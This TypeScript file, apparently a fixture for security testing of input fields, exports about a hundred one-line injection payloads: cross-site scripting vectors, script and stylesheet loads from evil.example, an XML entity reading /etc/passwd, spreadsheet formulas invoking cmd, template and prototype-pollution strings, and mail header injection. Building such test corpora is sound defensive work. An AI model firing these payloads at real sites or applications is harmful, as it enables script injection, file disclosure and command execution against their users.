// A hundred short injection payloads. Each is one line of at most 58 characters,
// so that it fits into every field (a telephone number takes a part of it).

const elements = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><img src onerror=alert(1)></mtext></math>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<a href=javascript:alert(1)>klik</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<object data=javascript:alert(1)></object>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><script>alert(1)</script></template>",
  "<x onclick=alert(1) id=x>klik</x>",
];

const endings = [
  "</script><script>alert(1)</script>",
  "</ScRiPt ><img src=x onerror=alert(1)>",
  "</script/x><svg onload=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "</head><body onload=alert(1)>",
  "</body></html><script>alert(1)</script>",
  "</template><img src=x onerror=alert(1)>",
  "</select><img src=x onerror=alert(1)>",
  "</button></form><img src=x onerror=alert(1)>",
];

const attributes = [
  `"><img src=x onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  "`><img src=x onerror=alert(1)>",
  `" onmouseover="alert(1)`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus=alert(1) x="`,
  `x onmouseover=alert(1)`,
  `" style="position:fixed;inset:0`,
  `"/><script>alert(1)</script>`,
  `&quot;&gt;&lt;img src=x onerror=alert(1)&gt;`,
  `\\" onerror=\\"alert(1)`,
  `" formaction="javascript:alert(1)`,
];

const comments = [
  "<!--<script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "--!><img src=x onerror=alert(1)>",
  "<!-- --> <script>alert(1)//-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--<script><!--</script>-->",
  "<![if IE]><script>alert(1)</script><![endif]>",
];

const xml = [
  "]]><script>alert(1)</script>",
  "]]>]]&gt;<![CDATA[x",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x/>",
  "<?php echo 1 ?><? x ?>",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "&lol; &#0; &#x1f; &#xFFFE; &amp;amp; &",
  "</title></item></channel></rss><script>alert(1)</script>",
  "</entry></feed>",
];

const data = [
  `","evil":"1`,
  `"}]}</script><script>alert(1)</script>`,
  `\\u003c/script\\u003e\\u003cscript\\u003ealert(1)`,
  `\\x3cscript\\x3ealert(1)\\x3c/script\\x3e`,
  "\\",
  `\\"`,
  `a"b'c\`d\${alert(1)}\\`,
  "x\u2028alert(1)\u2029//",
  "__proto__ constructor toString",
  `[{"_1":2},"P0:[\\"x\\"]"]`,
  "{{constructor.constructor('alert(1)')()}}",
  "\u0024{alert(1)} #{alert(1)} <%= alert(1) %>",
  "{name} {label} {title} {query} {author} {account}",
  "$& $1 $` $' $$ $<name>",
  "%3Cscript%3Ealert(1)%3C/script%3E",
];

const marking = [
  "[klik](javascript:alert(1))",
  "![x](//evil.example/x.png)",
  "[x]: javascript:alert(1)",
  "**vet** _schuin_ `code` ~~weg~~",
  "`` ` `` <!-- x --> ~~~ ```",
  "# kop > citaat - lijst | cel | cel |",
  "<javascript:alert(1)> <https://evil.example>",
  "](x) [a][b] \\[ \\] \\` &lt;b&gt;",
];

const tables = [
  "=HYPERLINK('http://evil.example';'klik')",
  `=cmd|'/C calc'!A0`,
  "@SUM(1+1)*cmd|'/C calc'!A0",
  `+1,"x";y`,
  `-2+3;"`,
];

const letters = [
  "\u202etpircs<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "<\u200bscript>alert(1)</\u200bscript>",
  "\u00e9 \u{1f600} \u{10fffd} e\u0301 <b>",
  "=?utf-8?B?PHNjcmlwdD4=?= Bcc: a@evil.example",
  "javascript:alert(1)//",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/%5c..%2f",
];

export const textPayloads: readonly string[] = [
  ...elements,
  ...endings,
  ...attributes,
  ...comments,
  ...xml,
  ...data,
  ...marking,
  ...tables,
  ...letters,
];
